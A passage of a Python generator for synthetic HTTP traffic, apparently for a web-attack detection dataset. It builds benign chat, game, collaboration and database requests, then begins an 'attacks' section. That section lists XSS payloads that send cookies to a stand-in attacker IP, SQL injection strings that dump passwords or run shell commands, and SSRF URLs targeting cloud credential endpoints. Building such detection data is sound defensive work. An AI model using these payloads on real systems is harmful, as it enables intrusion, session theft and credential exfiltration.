        emit("benign", None, "twitch", "GET", pick(["/helix/streams?game_id=%s&first=20&after=%s" % (digits(6), b64url(J({"b": {"Cursor": b64(J({"s": R.randint(1, 9999), "d": False, "t": True}))}, "a": {"Cursor": ""}}))),
                                                     "/helix/users?login=%s&login=%s" % (pick(["speedy_fox", "miraplays", "kai_tv"]), pick(["oaktree", "nova_2231"])),
                                                     "/helix/clips?broadcaster_id=%s&started_at=%s&first=5" % (digits(9), q(iso())),
                                                     "/helix/chat/emotes/global"]), h)
    elif k == 11:
        host = pick(H_CHAT + H_GAME)
        emit("benign", None, "health", "GET", pick(["/healthz", "/readyz", "/livez", "/socket.io/health", "/api/health?full=0"]),
             [["Host", host], ["User-Agent", pick(["kube-probe/1.30", "kube-probe/1.29", "ELB-HealthChecker/2.0", "GoogleHC/1.0"])], ["Accept", "*/*"], ["Connection", "close"]])
    elif k == 12:  # typing / presence heartbeats
        host = pick(H_CHAT + H_RT)
        emit("benign", None, "presence", "POST", pick(["/api/v1/presence/heartbeat", "/api/rooms/%s/typing" % digits(4)]), web(host, accept="*/*", auth=bearer()),
             J(pick([{"status": "online", "activity": {"type": "playing", "name": "Starfall", "details": "Ranked 2v2 — Harbor", "started_at": ts_ms()}},
                     {"typing": True}, {"typing": False}, {"status": "idle", "since": ts_ms()}])), "application/json")
    else:  # notification inbox reads
        host = pick(H_CHAT + H_GAME)
        emit("benign", None, "notify", "GET", "/api/v1/notifications?unread=true&limit=%d&cursor=%s" % (pick([20, 50]), b64url(J({"id": digits(8), "ts": ts()}))),
             web(host, accept="application/json", origin=False, auth=bearer()))


def b_collab():
    host = pick(H_DOCS)
    k = R.randint(0, 8)
    if k == 0:  # Etherpad changeset over socket.io polling
        text = pick(CHAT)
        cs = "Z:%s>%s=%s*0+%s$%s" % (base36(R.randint(10, 5000)), base36(len(text)), base36(R.randint(0, 900)), base36(len(text)), text)
        msg = {"type": "COLLABROOM", "component": "pad", "data": {"type": "USER_CHANGES", "baseRev": R.randint(1, 900), "changeset": cs,
                                                                    "apool": {"numToAttrib": {"0": ["author", "a." + alnum(16)]}, "nextNum": 1}}}
        emit("benign", None, "etherpad", "POST", "/socket.io/?padId=%s&EIO=4&transport=polling&t=%s&sid=%s" % (q(pick(["team-notes", "raid plan", "Ünïcode"])), yeast(), sid_engineio()),
             web(host, accept="*/*"), "42" + J(["message", msg]), "text/plain;charset=UTF-8")
    elif k == 1:  # Yjs update as binary
        upd = b"\x01" + pb_varint(R.randint(1, 4)) + rbytes(6) + b"\x84" + rbytes(3) + pb_varint(len(pick(CHAT).encode())) + pick(CHAT).encode() + rbytes(R.randint(4, 30))
        ua, _, _ = browser()
        hs = [["Host", host], ["User-Agent", ua], ["Accept", "*/*"], ["Content-Type", "application/octet-stream"], ["Authorization", bearer()],
              ["Origin", "https://" + host]]
        emit_raw("benign", None, "yjs", raw_request("POST", "/api/docs/%s/updates" % uid(), hs, upd))
    elif k == 2:  # Yjs update base64 in JSON
        emit("benign", None, "yjs", "POST", "/api/docs/%s/sync" % uid(), web(host, accept="application/json", auth=bearer()),
             J({"clientId": R.randint(10 ** 8, 10 ** 10), "update": b64(rbytes(R.randint(30, 400))), "stateVector": b64(rbytes(R.randint(4, 40)))}), "application/json")
    elif k == 3:  # ShareDB json0 op
        op = pick([[{"p": ["title", R.randint(0, 30)], "si": pick(CHAT)[:20]}], [{"p": ["tasks", R.randint(0, 9), "done"], "od": False, "oi": True}],
                   [{"p": ["cells", R.randint(0, 99)], "li": {"type": "text", "value": pick(CHAT)}}], [{"p": ["score"], "na": R.randint(-5, 5)}]])
        emit("benign", None, "sharedb", "POST", "/sharedb/ops", web(host, accept="application/json"),
             J({"a": "op", "c": pick(["docs", "boards", "sheets"]), "d": uid(), "v": R.randint(1, 9000), "src": alnum(22), "seq": R.randint(1, 300), "op": op}), "application/json")
    elif k == 4:  # Excalidraw-like scene
        els = []
        for i in range(R.randint(8, 40)):
            e = {"id": alnum(21, B64U), "type": pick(["rectangle", "ellipse", "arrow", "text", "freedraw"]), "x": round(R.uniform(-800, 800), 3),
                 "y": round(R.uniform(-600, 600), 3), "width": round(R.uniform(5, 400), 2), "height": round(R.uniform(5, 300), 2), "angle": 0,
                 "strokeColor": pick(["#1e1e1e", "#e03131", "#2f9e44"]), "backgroundColor": "transparent", "fillStyle": "solid", "strokeWidth": 2,
                 "roughness": 1, "opacity": 100, "seed": R.randint(1, 2 ** 31), "version": R.randint(1, 80), "versionNonce": R.randint(1, 2 ** 31),
                 "isDeleted": False, "boundElements": None, "updated": ts_ms(), "locked": False}
            if e["type"] == "text":
                e.update({"text": pick(CHAT), "fontSize": 20, "fontFamily": 1, "textAlign": "left", "verticalAlign": "top"})
            if e["type"] == "freedraw":
                e["points"] = [[round(R.uniform(0, 50), 2), round(R.uniform(0, 50), 2)] for _ in range(R.randint(5, 40))]
            els.append(e)
        emit("benign", None, "whiteboard", "PUT", "/api/v2/scenes/%s" % alnum(20), web(host, accept="application/json"),
             J({"type": "excalidraw", "version": 2, "source": "https://" + host, "elements": els, "appState": {"gridSize": None, "viewBackgroundColor": "#ffffff"}, "files": {}}),
             "application/json")
    elif k == 5:  # tldraw-style diff
        recs = {"shape:" + alnum(21, B64U): {"x": round(R.uniform(0, 900), 2), "y": round(R.uniform(0, 900), 2), "rotation": 0, "isLocked": False,
                                              "props": {"geo": pick(["rectangle", "cloud", "star"]), "color": pick(["blue", "red", "violet"]), "text": pick(CHAT)},
                                              "parentId": "page:page", "index": "a" + alnum(2), "typeName": "shape"} for _ in range(R.randint(1, 10))}
        emit("benign", None, "whiteboard", "POST", "/api/rooms/%s/push" % lower(10), web(host, accept="application/json"),
             J({"type": "push", "clientClock": R.randint(1, 9999), "diff": {"put": recs, "remove": ["shape:" + alnum(21, B64U)]}, "presence": None}), "application/json")
    elif k == 6:  # Automerge sync message as base64
        emit("benign", None, "automerge", "POST", "/sync/%s" % b64url(rbytes(16)), web(host, accept="application/json"),
             J({"type": "sync", "senderId": uid(), "targetId": "storage-server-" + lower(6), "documentId": alnum(28), "data": b64(b"\x42" + rbytes(R.randint(50, 600)))}), "application/json")
    elif k == 7:  # Liveblocks-like storage JSON
        emit("benign", None, "collab", "PATCH", "/v2/rooms/%s/storage" % q("board:" + lower(8)), native(host, ua=pick(SERVER_UAS), auth="Bearer sk_prod_" + alnum(48)),
             J({"liveblocksType": "LiveObject", "data": {"cards": {"liveblocksType": "LiveList", "data": [{"title": pick(CHAT), "votes": R.randint(0, 20)} for _ in range(R.randint(1, 6))]}}}),
             "application/json")
    else:  # Quill delta with formatting
        ops = [{"insert": pick(CHAT)}, {"insert": "\n", "attributes": {"header": 2}}, {"insert": pick(CHAT), "attributes": {"bold": True, "link": pick(LINKS)}},
               {"insert": {"image": "https://cdn.example.com/u/%s.png" % hexs(10)}}, {"insert": "\n"}]
        emit("benign", None, "collab", "POST", "/api/notes/%s/deltas" % lower(12), web(host, accept="application/json"), J({"v": R.randint(1, 999), "delta": {"ops": ops}}), "application/json")


def base36(n):
    s = ""
    while True:
        n, r = divmod(n, 36)
        s = "0123456789abcdefghijklmnopqrstuvwxyz"[r] + s
        if n == 0:
            return s


def b_game():
    host = pick(H_GAME)
    k = R.randint(0, 13)
    h = native(host, auth=bearer()) if chance(0.6) else web(host, accept="application/json", auth=bearer())
    if k == 0:
        body = {"mode": pick(["ranked_2v2", "casual_5v5", "coop_raid", "ffa"]), "region": pick(["eu-west", "us-east", "ap-northeast", "sa-east"]),
                "mmr": R.randint(600, 3400), "party": [uid() for _ in range(R.randint(1, 4))],
                "latencies": {r: R.randint(8, 240) for r in ["eu-west", "us-east", "ap-northeast", "sa-east"]},
                "crossplay": chance(0.7), "attributes": {"skill.uncertainty": round(R.uniform(0.1, 3), 3), "input": pick(["kbm", "controller", "touch"])}}
        emit("benign", None, "matchmaking", "POST", "/api/v1/matchmaking/tickets", h, J(body), "application/json")
    elif k == 1:
        emit("benign", None, "matchmaking", "GET", "/api/v1/matchmaking/tickets/%s" % uid(), h)
    elif k == 2:
        emit("benign", None, "matchmaking", "DELETE", "/api/v1/matchmaking/tickets/%s" % uid(), h)
    elif k == 3:
        emit("benign", None, "inventory", "POST", "/api/inventory/equip", h,
             J({"item_id": pick(["wpn_ak47_redline", "skin_dragon_knight", "emote_wave", "banner_s12_diamond"]), "slot": pick(["primary", "secondary", "head", "emote_1"]),
                "loadout": R.randint(0, 4)}), "application/json")
    elif k == 4:
        emit("benign", None, "inventory", "POST", "/api/trades", h,
             J({"to": uid(), "offer": [{"item": "itm_" + lower(10), "qty": R.randint(1, 5)}], "request": [{"item": "itm_" + lower(10), "qty": 1}],
                "message": pick(CHAT)}), "application/json")
    elif k == 5:  # large state diff from an authoritative server
        ents = {}
        for _ in range(R.randint(20, 120)):
            ents["e%d" % R.randint(1, 99999)] = {"pos": [round(R.uniform(-2000, 2000), 3) for _ in range(3)], "rot": [round(R.uniform(-1, 1), 5) for _ in range(4)],
                                                 "vel": [round(R.uniform(-30, 30), 3) for _ in range(3)], "hp": R.randint(0, 250), "flags": R.randint(0, 255),
                                                 "anim": pick(["idle", "run", "jump", "reload", "emote_wave"])}
        emit("benign", None, "gamestate", "POST", "/api/v1/sessions/%s/snapshots" % uid(), native(host, ua=pick(GAME_UAS[:5]), auth=bearer()),
             J({"tick": R.randint(1000, 10 ** 7), "baseline": R.randint(1, 10 ** 6), "set": ents, "removed": ["e%d" % R.randint(1, 99999) for _ in range(R.randint(0, 6))]}),
             "application/json")
    elif k == 6:  # save game as base64 blob
        save = b"SFSV" + struct.pack("<HI", 3, ts()) + rbytes(R.randint(120, 1200))
        emit("benign", None, "saves", "PUT", "/api/v1/saves/slot%d" % R.randint(1, 5), native(host, ua=pick(GAME_UAS), auth=bearer()),
             J({"version": "1.4.2", "checksum": hashlib.sha256(save).hexdigest(), "data": b64(save), "playtime_s": R.randint(60, 900000)}), "application/json")
    elif k == 7:  # save game as octet-stream
        save = b"\x1f\x8b\x08\x00" + rbytes(R.randint(200, 1500))
        hs = [["Host", host], ["User-Agent", pick(GAME_UAS)], ["Accept", "*/*"], ["Authorization", bearer()], ["Content-Type", "application/octet-stream"],
              ["X-Save-Version", "3"], ["X-Checksum-SHA256", hashlib.sha256(save).hexdigest()]]
        emit_raw("benign", None, "saves", raw_request("PUT", "/api/v1/saves/cloud/%s" % uid(), hs, save))
    elif k == 8:
        emit("benign", None, "achievements", "POST", "/api/v1/achievements/unlock", h,
             J({"achievement": pick(["ACH_FIRST_BLOOD", "ACH_WIN_100", "ACH_SPEEDRUN_SUB45", "ACH_ALL_SECRETS"]), "progress": 100, "unlocked_at": iso(),
                "context": {"match_id": uid(), "map": pick(["harbor", "foundry"])}}), "application/json")
    elif k == 9:
        emit("benign", None, "scores", "POST", "/api/v1/leaderboards/%s/scores" % pick(BOARDS), h,
             J({"score": R.randint(0, 2000000), "subscore": R.randint(0, 999), "metadata": J({"build": "1.4.2-%s" % hexs(7), "seed": R.randint(1, 10 ** 9), "splits": [R.randint(10000, 90000) for _ in range(5)]}),
                "signature": b64(rbytes(64))}), "application/json")
    elif k == 10:  # Nakama auth
        emit("benign", None, "nakama", "POST", "/v2/account/authenticate/device?create=true&username=%s" % q(pick(NICKS)),
             native(host, ua=GAME_UAS[6], auth="Basic " + b64("defaultkey:")), J({"id": uid(), "vars": {"platform": pick(["android", "ios", "windows"])}}), "application/json")
    elif k == 11:  # PlayFab login and user data
        ph = "%s.playfabapi.example.com" % hexs(5).upper()
        if chance(0.5):
            emit("benign", None, "playfab", "POST", "/Client/LoginWithCustomID?sdk=UnitySDK-2.183.240315", native(ph, ua=GAME_UAS[7]),
                 J({"CustomId": uid(), "CreateAccount": True, "TitleId": hexs(5).upper(), "InfoRequestParameters": {"GetPlayerProfile": True, "GetUserVirtualCurrency": True}}),
                 "application/json")
        else:
            emit("benign", None, "playfab", "POST", "/Client/UpdateUserData?sdk=UnitySDK-2.183.240315",
                 native(ph, ua=GAME_UAS[7], extra=[["X-Authorization", hexs(16).upper() + "--" + b64(rbytes(24))]]),
                 J({"Data": {"loadout": J({"primary": "ak", "secondary": "deagle", "perks": ["fast_reload", "ninja"]}), "settings": J({"sens": 0.42, "fov": 103, "invertY": False})},
                    "Permission": "Private"}), "application/json")
    elif k == 12:  # Steam-style Web API read
        emit("benign", None, "steam", "GET", "/ISteamUserStats/GetSchemaForGame/v2/?appid=%s&l=%s&key=%s" % (digits(6), pick(["english", "german", "japanese"]), hexs(32).upper()),
             native(host, ua=pick(SERVER_UAS)))
    else:  # party invite / friend request
        emit("benign", None, "social", "POST", pick(["/api/v1/parties/%s/invites" % uid(), "/api/v1/friends/requests"]), h,
             J({"to": pick([uid(), "Nova#2231", "steam:76561198%s" % digits(9)]), "message": pick(CHAT)}), "application/json")


def b_uploads():
    host = pick(H_GAME + H_CHAT + ["mods.example.com"])
    ua, _, _ = browser()
    k = R.randint(0, 4)
    b = boundary_browser() if chance(0.7) else boundary_ff()
    if k == 0:  # avatar
        body = multipart([("avatar", png_bytes(R.randint(60, 250)), pick(["me.png", "avatar (1).png", "プロフィール.png"]), "image/png")], b)
        path = "/api/v1/players/me/avatar"
    elif k == 1:  # mod upload
        meta = J({"name": pick(["Better Maps", "HD Textures", "QoL Tweaks"]), "summary": pick(BIOS), "tags": ["Maps", "Gameplay"], "version": "1.%d.0" % R.randint(0, 9),
                  "dependencies": [{"id": digits(6), "version": ">=2.0"}]})
        body = multipart([("metadata", meta, None, "application/json"), ("logo", png_bytes(120), "logo.png", "image/png"),
                          ("filedata", zip_bytes(["mod.json", "maps/harbor_v2.bsp", "textures/rock_01.dds", "README.md"]), "better-maps-1.2.zip", "application/zip")], b)
        path = "/v1/games/%s/mods" % digits(4)
    elif k == 2:  # Discord-style message with attachment
        pj = J({"content": pick(CHAT), "nonce": snowflake(), "attachments": [{"id": "0", "filename": "clip.png"}]})
        body = multipart([("payload_json", pj), ("files[0]", png_bytes(200), "clip.png", "image/png")], b)
        path = "/api/v10/channels/%s/messages" % snowflake()
    elif k == 3:  # Mattermost file
        body = multipart([("channel_id", mm_id()), ("client_ids", uid()), ("files", "match,score\n%s,%d\n" % (uid(), R.randint(0, 9999)), "results.csv", "text/csv")], b)
        path = "/api/v4/files"
    else:  # replay upload
        body = multipart([("match_id", uid()), ("replay", b"DEMO" + rbytes(R.randint(300, 900)), "match_%s.dem" % digits(6), "application/octet-stream")], b)
        path = "/api/replays/upload"
    hs = [["Host", host], ["User-Agent", ua], ["Accept", "application/json"], ["Authorization", bearer()],
          ["Content-Type", "multipart/form-data; boundary=" + b], ["Origin", "https://" + host], ["Accept-Language", pick(LANGS)]]
    emit_raw("benign", None, "uploads", raw_request("POST", path, hs, body))


def b_realtime_db():
    k = R.randint(0, 11)
    if k <= 5:  # Firebase Realtime Database REST
        host = pick(H_FB)
        h = web(host, accept="*/*", origin="app.example.com", cookie=False)
        m = pick([("GET", "/rooms/lobby/messages.json?orderBy=%s&limitToLast=50&auth=%s" % (q('"timestamp"'), jwt()), None),
                  ("GET", "/players.json?orderBy=%s&startAt=%s&endAt=%s&print=pretty" % (q('"$key"'), q('"a"'), q('"m\uf8ff"')), None),
                  ("GET", "/presence.json?shallow=true", None),
                  ("PATCH", "/players/%s.json?auth=%s" % (alnum(28), jwt()), J({"score": R.randint(0, 99999), ".priority": R.randint(0, 99), "lastSeen": {".sv": "timestamp"}})),
                  ("PUT", "/presence/%s.json" % alnum(28), J({"state": "online", "last_changed": {".sv": "timestamp"}})),
                  ("POST", "/matches/%s/events.json" % lower(8), J({"type": "kill", "by": alnum(28), "victim": alnum(28), "weapon": "bow", "t": {".sv": "timestamp"}})),
                  ("PATCH", "/counters.json", J({"online": {".sv": {"increment": 1}}})),
                  ("GET", "/leaderboard.json?orderBy=%s&limitToLast=10&format=export" % q('"$value"'), None)])
        emit("benign", None, "firebase", m[0], m[1], h, m[2], "application/json" if m[2] else None)
    else:  # Supabase
        host = pick(H_SUPA)
        h = web(host, accept="application/json", origin="app.example.com", cookie=False, auth="Bearer " + jwt(),
                extra=[["apikey", jwt()], ["X-Client-Info", "supabase-js-web/2.45.4"]])
        m = pick([("GET", "/rest/v1/messages?select=*,profiles(username,avatar_url)&room_id=eq.%d&order=created_at.desc&limit=50" % R.randint(1, 400), None),
                  ("GET", "/rest/v1/profiles?select=id,username,status&or=(status.eq.online,status.eq.away)&username=ilike.*%s*" % pick(["ann", "kai", "nov"]), None),
                  ("POST", "/rest/v1/rpc/get_leaderboard", J({"p_season": R.randint(1, 12), "p_limit": 50, "p_region": pick(["eu", "na"])})),
                  ("PATCH", "/rest/v1/profiles?id=eq.%s" % uid(), J({"status": pick(["online", "away", "dnd"]), "status_text": pick(CHAT)})),
                  ("GET", "/rest/v1/scores?select=player_id,score&created_at=gte.%s&score=gt.1000&order=score.desc.nullslast&limit=100" % q(iso()), None),
                  ("GET", "/storage/v1/object/public/avatars/%s/avatar.png" % uid(), None),
                  ("GET", "/realtime/v1/websocket?apikey=%s&vsn=1.0.0" % jwt(), None)])
        emit("benign", None, "supabase", m[0], m[1], h, m[2], "application/json" if m[2] else None)


def b_mqtt_push_misc():
    k = R.randint(0, 9)
    if k <= 2:  # MQTT over WebSocket, AWS IoT presigned
        host = pick(["a%s-ats.iot.eu-west-1.example.com" % lower(13), "mqtt.example.net", "broker.example.org"])
        uri = pick(["/mqtt", "/mqtt?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=%s&X-Amz-Date=%s&X-Amz-SignedHeaders=host&X-Amz-Signature=%s&X-Amz-Security-Token=%s" % (
            q("ASIA%s/20260314/eu-west-1/iotdevicegateway/aws4_request" % alnum(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")), "20260314T%06dZ" % R.randint(0, 235959), hexs(64), q(alnum(300, B64C)))])
        ua, _, _ = browser()
        h = [["Host", host], ["Connection", "Upgrade"], ["Upgrade", "websocket"], ["User-Agent", ua], ["Origin", "https://" + pick(H_RT)],
             ["Sec-WebSocket-Version", "13"], ["Sec-WebSocket-Key", b64(rbytes(16))], ["Sec-WebSocket-Protocol", pick(["mqtt", "mqttv3.1"])],
             ["Sec-WebSocket-Extensions", "permessage-deflate; client_max_window_bits"]]
        emit("benign", None, "mqtt", "GET", uri, h)
    elif k <= 4:  # push unsubscribe / VAPID key fetch
        host = pick(H_CHAT + H_RT)
        if chance(0.5):
            emit("benign", None, "webpush", "GET", "/api/push/vapid-public-key", web(host, accept="application/json", origin=False))
        else:
            emit("benign", None, "webpush", "DELETE", "/api/push/subscriptions", web(host, accept="application/json", auth=bearer()),
                 J({"endpoint": pick(PUSH_ENDPOINTS)()}), "application/json")
    elif k == 5:  # Turbo GET / frame
        host = pick(H_CHAT + H_FORUM)
        emit("benign", None, "turbo", "GET", "/rooms/%s/messages?before=%s" % (digits(2), digits(6)),
             web(host, accept="text/vnd.turbo-stream.html, text/html, application/xhtml+xml", origin=False, extra=[["Turbo-Frame", "messages"]]))
    elif k == 6:  # htmx polling / search
        host = pick(H_CHAT + H_FORUM)
        emit("benign", None, "htmx", "GET", pick(["/rooms/%s/poll?after=%s" % (digits(3), digits(6)), "/search?q=%s" % qb(pick(["lag spikes", "ランク", "O'Neil", "raid @ 21:00"]))]),
             web(host, accept="*/*", origin=False, extra=[["HX-Request", "true"], ["HX-Trigger", "search"], ["HX-Target", "results"], ["HX-Current-URL", "https://%s/rooms" % host]]))
    elif k == 7:  # LiveView join over long poll
        host = pick(H_CHAT + H_DOCS)
        join = J(["4", "4", "lv:phx-F" + alnum(15, B64U), "phx_join", {"url": "https://%s/rooms/%s" % (host, digits(3)), "params": {"_csrf_token": alnum(40, B64U), "_track_static": ["https://%s/assets/app.css" % host], "_mounts": 0},
                                                                       "session": alnum(300, B64U) + "." + alnum(43, B64U), "static": alnum(120, B64U) + "." + alnum(43, B64U)}])
        emit("benign", None, "liveview", "POST", "/live/longpoll?_csrf_token=%s&vsn=2.0.0&token=%s" % (alnum(40, B64U), alnum(56, B64U)), web(host, accept="*/*"),
             join, "application/x-ndjson")
    elif k == 8:  # Connect streaming envelope (binary)
        host = pick(H_CHAT + H_GAME)
        msg = J({"roomId": lower(10), "sinceSeq": R.randint(0, 99999)}).encode()
        env = b"\x00" + struct.pack(">I", len(msg)) + msg
        ua, _, _ = browser()
        hs = [["Host", host], ["User-Agent", ua], ["Content-Type", "application/connect+json"], ["Connect-Protocol-Version", "1"], ["Authorization", bearer()], ["Accept", "*/*"]]
        emit_raw("benign", None, "connect", raw_request("POST", "/chat.v1.ChatService/Subscribe", hs, env))
    else:  # gRPC-web server-streaming subscription, text mode
        host = pick(H_CHAT + H_GAME)
        msg = pb_str(1, lower(10)) + pb_int(2, R.randint(0, 99999))
        ua, _, _ = browser()
        hs = [["Host", host], ["Content-Type", "application/grpc-web-text"], ["Accept", "application/grpc-web-text"], ["X-Grpc-Web", "1"],
              ["X-User-Agent", "grpc-web-javascript/0.1"], ["User-Agent", ua], ["Origin", "https://" + host]]
        emit_raw("benign", None, "grpcweb", raw_request("POST", "/lobby.v1.Lobby/Watch", hs, base64.b64encode(grpc_frame(msg))))


# =========================================================================
# benign and dev-content schedules
# =========================================================================
def name_value(c):
    if c in (c_nick, c_matrix_displayname, c_playfab_name, c_ws_query):
        return pick(NICKS)
    if c is c_clan:
        return pick(CLANS)
    if c in (c_bio, c_forum_signature):
        return pick(BIOS)
    if c is c_stream_title:
        return pick(STREAM_TITLES)
    if c is c_lobby:
        return pick(["%s's lobby" % pick(NICKS), "EU chill 🌙", "ranked grind — no toxicity", "ランクマ募集", "1v1 me bro", "Scrim [Knights of Ni] vs [Drop Bears]"])
    return pick(["In a match 🎮", "AFK – dinner", "Streaming at 8 📺", "do not disturb", "raiding 🐉", "🌴 vacation until 03/20"])


def gen_benign():
    for c in MSG_CARRIERS:
        for _ in range(4):
            c("benign", None, md_text() if chance(0.3) else chat_text())
    for _ in range(5):
        c_discord_embed("benign", None, pick(LINKS))
    for _ in range(4):
        c_sse_query("benign", None, pick(["lobby", "match:%s" % digits(6), "rooms/42", "notifications", "eu-west/ranked"]))
    for c in NAME_CARRIERS:
        for _ in range(5):
            c("benign", None, name_value(c))
    for table, n in ((BENIGN_FILTER, 3), (BENIGN_URL, 3), (BENIGN_PATH_URL, 3), (BENIGN_PATH_PLAIN, 3), (BENIGN_CMD, 3)):
        for c, val in table.items():
            for _ in range(n):
                c("benign", None, val())
    for c in TEMPLATE_CARRIERS:
        for _ in range(3):
            c("benign", None, pick(TEMPLATES))
    for fn, n in ((b_ws_handshake, 22), (b_ws_native, 6), (b_socketio_transport, 18), (b_signalr_transport, 10), (b_sse, 10),
                  (b_graphql_misc, 8), (b_hls_dash, 22), (b_webrtc, 18), (b_matrix_misc, 20), (b_chatops_misc, 26), (b_collab, 18),
                  (b_game, 28), (b_uploads, 8), (b_realtime_db, 14), (b_mqtt_push_misc, 14)):
        for _ in range(n):
            fn()


DEV_CARRIERS = [c_discord, c_slack, c_mattermost, c_matrix, c_rocketchat, c_discourse, c_socketio, c_signalr, c_graphql,
                c_turbo, c_htmx, c_liveview, c_supabase, c_jsonpatch, c_rocketchat_ddp, c_connect]


def gen_dev():
    for text in DEV + DEV + DEV_SHORT:
        pick(DEV_CARRIERS)("dev-content", None, text)
    # Matrix clients send fenced code as HTML too
    for text in DEV[:6]:
        html = "<pre><code>%s</code></pre>" % text.split("```")[1].split("\n", 1)[1].replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;") \
            if "```" in text else "<code>%s</code>" % text
        c_matrix("dev-content", None, text, html=html)


# =========================================================================
# attacks
# =========================================================================
ATK = "203.0.113.%d" % 66
OOB = "x%s.oob.example.net" % "7f3a"

XSS_MSG = [
    "<script>alert(document.cookie)</script>",
    "hey check this <img src=x onerror=alert(document.domain)>",
    "<svg/onload=fetch('//%s/c?'+document.cookie)>" % ATK,
    "<iframe srcdoc=\"<script>parent.postMessage(localStorage.token,'*')</script>\"></iframe>",
    "[free skins](javascript:alert(document.domain))",
    "![gg](https://cdn.example.com/x.png\" onerror=\"alert(1))",
    "<a href=\"javascript&colon;alert(1)\">claim reward</a>",
    "<details open ontoggle=alert(1)>",
    "lol <body onload=alert('xss')>",
    "<img src=1 oNeRrOr=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+\">open replay</a>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=\"javascript:alert(1)\"></video>",
    "<marquee onstart=alert(1)>gg</marquee>",
    "<object data=\"javascript:alert(1)\"></object>",
    "{{constructor.constructor('alert(document.cookie)')()}}",
    "<x onpointerover=alert(1)>hover me",
    "<form><button formaction=javascript:alert(1)>vote</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)\">x</a>",
    "<img src=x:x onerror=import('//%s/m.js')>" % ATK,
    "<iframe src=\"javascript:alert(`xss`)\">",
    "<audio src=x onerror=alert(1)>",
    "<svg onload=alert&lpar;1&rpar;>",
    "<turbo-stream action=\"append\" target=\"messages\"><template><img src=x onerror=alert(1)></template></turbo-stream>",
    "<style>@keyframes x{}</style><div style=\"animation-name:x\" onanimationstart=\"alert(1)\"></div>",
    "<img src=\"x\" onerror=\"window.location='https://%s/steal?c='+document.cookie\">" % ATK,
    "<script src=//%s/hook.js></script>" % ATK,
    "<embed src=\"javascript:alert(1)\">",
    "<base href=\"//%s/\"><script src=\"app.js\"></script>" % ATK,
    "</textarea><script>alert(1)</script>",
]
XSS_NAME = [
    "\"><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</title><script>alert(document.cookie)</script>",
    "\" autofocus onfocus=\"alert(1)",
    "<svg/onload=alert(1)>",
    "Kai<iframe src=javascript:alert(1)>",
    "[TTV]<b onmouseover=alert(1)>Nova</b>",
    "'-alert(document.domain)-'",
    "<a href=javascript:alert(1)>website</a>",
    "';alert(String.fromCharCode(88,83,83))//",
]
XSS_HTML = [  # Matrix formatted_body and other HTML fields
    "<a href=\"javascript:alert(document.cookie)\">In reply to</a>",
    "<font color=\"red\" onmouseover=\"alert(1)\">red team</font>",
    "<img src=\"mxc://matrix.example.org/abc\" onerror=\"alert(1)\">",
    "<mx-reply><blockquote><script>alert(1)</script></blockquote></mx-reply>hi",
]
XSS_URL = ["javascript:alert(document.cookie)", "javascript://%0aalert(1)", "data:text/html,<script>alert(1)</script>",
           "JaVaScRiPt:eval(atob('YWxlcnQoMSk='))"]

SQLI = [
    "score DESC,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/(SELECT 0) END)",
    "1' OR '1'='1",
    "1 UNION SELECT username,password_hash,3 FROM players--",
    "-1' UNION ALL SELECT NULL,concat(email,0x3a,password),NULL,NULL FROM users-- -",
    "EU' AND SLEEP(5)-- -",
    "1;SELECT pg_sleep(10)--",
    "(SELECT 1 FROM (SELECT SLEEP(5))a)",
    "score,EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version()),0x7e))",
    "1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))",
    "'; DROP TABLE leaderboard;--",
    "1' AND (SELECT COUNT(*) FROM information_schema.tables)>0 AND '1'='1",
    "2026-s1' ORDER BY 10-- -",
    "1/**/UNION/**/SELECT/**/1,2,group_concat(table_name)/**/FROM/**/information_schema.tables",
    "IF(SUBSTRING(@@version,1,1)='8',SLEEP(3),0)",
    "1 waitfor delay '0:0:5'--",
    "1' || (SELECT CASE WHEN 1=1 THEN pg_sleep(5) ELSE pg_sleep(0) END)--",
    "1 AND updatexml(1,concat(0x7e,(select user())),1)",
    "(CASE WHEN (SELECT substr(password,1,1) FROM users WHERE id=1)='a' THEN score ELSE kills END)",
    "' UnIoN sElEcT 1,@@version,3#",
    "x' AND extractvalue(rand(),concat(0x3a,(select database())))-- -",
    "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))",
    "1';EXEC xp_cmdshell 'whoami'--",
    "1 AND ascii(substring((select password from admins limit 1),1,1))>64",
    "'||(SELECT load_file('/etc/passwd'))||'",
    "1' AND 1=dbms_pipe.receive_message(('a'),10)--",
    "1' UNION SELECT sql,2 FROM sqlite_master--",
    "id) OR 1=1--",
    "desc; DELETE FROM scores",
    "region = 'EU' OR 1=1",
    "x'||pg_sleep(5)||'",
    "score AND (SELECT 1 FROM pg_sleep(5)) IS NOT NULL",
    "1 AND ROW(1,1)>(SELECT COUNT(*),CONCAT(CHAR(95),CHAR(33),FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.COLLATIONS GROUP BY x)",
    "1%' AND 2=2 AND '%'='",
    "admin'--",
    "1 UNION ALL SELECT name,engine FROM system.tables",
    "-1 OR 3*2>5",
    "kills;SELECT/**/current_setting('is_superuser')",
    "1) UNION SELECT id,token,null FROM sessions WHERE (1=1",
]

SSRF = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://127.0.0.1:2375/containers/json",
    "https://localhost:10250/pods",
